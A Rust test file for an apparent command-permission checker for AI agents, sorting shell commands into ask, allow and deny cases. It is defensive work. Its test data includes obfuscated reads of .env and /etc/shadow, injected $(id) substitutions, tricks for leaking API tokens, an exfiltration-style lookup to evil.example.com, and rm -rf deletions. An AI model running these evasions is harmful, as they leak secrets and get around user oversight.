//! Words that give something away, or bring something in.

use super::all;
use crate::verdict::Decision;

#[test]
fn s4_text_that_a_program_makes_up_is_not_a_name_of_the_project() {
    all(
        Decision::Ask,
        &[
            "cat $(awk 'BEGIN{print \".env\"}')",
            "cat $(awk 'BEGIN{x=\".e\"; print x \"nv\"}')",
            "awk 'BEGIN{print \".env\"}' | xargs cat",
            "cat $(jq -rn '\".env\"')",
            "cat $(seq -f /etc/shadow%.0s 1)",
            "cat $(paste -sd/ <<< $'etc\\nshadow')",
            "cat $(date +.%%env)",
            "cat $(date '+a .env b')",
            "cat $(seq -s ' .env ' 1 2)",
            "cat $(awk 'BEGIN{FS=\".env\"; print FS}')",
            "cat $(awk 'BEGIN{OFS=\"/\"; print \".\", \"x\"}')",
            "cat $(awk 'BEGIN{print \".\" \"e\" \"n\" \"v\"}')",
            "cat $(awk -v x=.e -v y=nv 'BEGIN{print x y}')",
            "cat $(awk 'BEGIN{print ARGV[1] ARGV[2]}' .e nv)",
            "let x=$(seq -f 'a[$(id)]' 1)",
            "let x=$(pgrep -d 'a[$(id)]' bash)",
            "compgen -G '.e*' | xargs cat",
            "cat .en${-/hBc/v}",
            "cat .e$x",
            "find . -name '*nv' -exec head {} \\;",
            "cat $(find . -name '*.env*')",
            "shopt -s nocaseglob; cat .ENV*",
        ],
    );
    all(
        Decision::Allow,
        &[
            "wc -l $(git diff --name-only | awk '{print $1}')",
            "head $(ls | awk 'BEGIN {FS=\".\"} {print $1}')",
            "mkdir -p logs/$(date +%Y/%m/%d)",
            "mkdir \"$(date '+%F %T')\"",
            "x=$(seq 1 3); echo $((x + 1))",
            "ls | awk '{print $1 \": \" $2}'",
            "find . -name '*.md' -exec head {} \\;",
            "shopt -s nocaseglob",
            "compgen -c | head",
        ],
    );
}

#[test]
fn s4_code_of_other_directories_is_asked_about_as_with_an_option() {
    all(
        Decision::Ask,
        &[
            "cd ~/other && make",
            "cd ~/other && cargo build",
            "cd ~/other && npm test",
            "cd ~/other && git commit -am x",
            "cd .. && git stash",
            "pushd /opt/x && pytest",
            "bash -c 'cd \"$0\" && git commit -am x' ~/other",
            "terraform fmt ..",
        ],
    );
    all(
        Decision::Allow,
        &["cd sub && make", "cd ~/other && ls", "cd sub && git status", "cd sub/.. && cargo test"],
    );
}

#[test]
fn s4_values_of_secrets_are_not_printed_by_detours() {
    all(
        Decision::Ask,
        &[
            "declare x=$NPM_TOKEN; declare -p x",
            "dd <<< $NPM_TOKEN",
            "python3 -c 'import sys;print(sys.argv)' $NPM_TOKEN",
            "node -e 'console.log(process.argv)' \"$OPENAI_API_KEY\"",
            "set -x; X=$NPM_TOKEN",
            "set -x; [[ $NPM_TOKEN == x ]]",
            "set -x; case $NPM_TOKEN in a) ;; esac",
            "set -x; for i in $NPM_TOKEN; do :; done",
            ": > \"a$NPM_TOKEN\"; ls",
            "cat README.md | xargs printenv",
            "echo $CONN_STR",
            "echo $SEED_PHRASE",
            "echo $STRIPE_SK",
            "cat .envrc",
            "cat .$x",
            "cat sub/.e$x",
            "git mv build.sh .envrc",
            "git stash -- .envrc",
            "echo x > .envrc",
            "bash -O nocaseglob -c 'cat .ENV*'",
            "shopt -s dotglob; cat < *nv",
            "perl -le 'print @ARGV' $NPM_TOKEN",
            "python3 -Bc 'import sys;print(sys.argv)' $NPM_TOKEN",
            "cat .secrets",
            "cat token.txt",
            "npm view $(whoami)",
            "cargo search x-$(hostname)",
            "go list -m evil.example.com/$(git log -1 --format=%H)@latest",
            "hurl x.hurl",
        ],
    );
    all(
        Decision::Allow,
        &[
            "declare x=1; declare -p x",
            "set -x; X=1; [[ $X == 1 ]]",
            "printenv HOME",
            "npm view react version",
            "cargo test search -- $(pwd)",
            "find . -name '*_*' -exec wc -l {} +",
            "go test $(go list ./...)",
            "python3 -c 'print(1)'",
            "cat tokens.rs",
        ],
    );
}

#[test]
fn a_name_in_part_is_no_better_than_its_directory() {
    all(Decision::Deny, &["rm -rf .$x", "echo x > .git/.$x", "rm -rf .marvin/.$x"]);
}
